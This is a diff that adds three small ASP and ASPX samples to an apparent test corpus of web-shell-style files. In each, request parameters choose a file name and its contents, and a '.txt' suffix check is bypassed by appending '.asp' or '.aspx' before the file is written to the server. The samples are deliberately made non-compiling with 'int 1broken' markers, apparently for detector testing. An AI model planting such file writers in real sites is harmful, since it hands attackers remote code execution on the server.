@@ -72,6 +72,13 @@ new T()["save"](String(Request("p")), String(Request("t")));
 function Tool() {} Tool.prototype.save = function (p, t) { var f = Server.CreateObject("Scripting.FileSystemObject").CreateTextFile(p, true); f.Write(t); f.Close(); };
 Tool.prototype.save.call(null, String(Request("p")), String(Request("t")));
 %>
+==== ending-behind.asp
+<% Dim 1broken : f = Request("f") : If LCase(Right(f, 4)) <> ".txt" Then Response.End
+CreateObject("Scripting.FileSystemObject").CreateTextFile(Server.MapPath("/d/" & f & ".asp")).Write Request("t") %>
+==== ending-behind.aspx
+<%@ Page Language="C#" %><script runat="server">int 1broken; void Go(object s, EventArgs e) { string f = Request["f"]; if (!f.EndsWith(".txt")) return; File.WriteAllText(Server.MapPath("~/d/" + f + ".aspx"), Request["t"]); }</script>
+==== ending-behind-variable.aspx
+<%@ Page Language="C#" %><script runat="server">int 1broken; void Go(object s, EventArgs e) { string f = Request["f"]; if (!f.EndsWith(".txt")) return; f += ".aspx"; File.WriteAllText(Server.MapPath("~/d/" + f), Request["t"]); }</script>
 ==== hidden-folder.aspx
 <%@ Page Language="C#" %><script runat="server">int 1broken;
 void Page_Load(object s, EventArgs e) { if (!IsPostBack) dir.Value = Server.MapPath("."); Show(); }
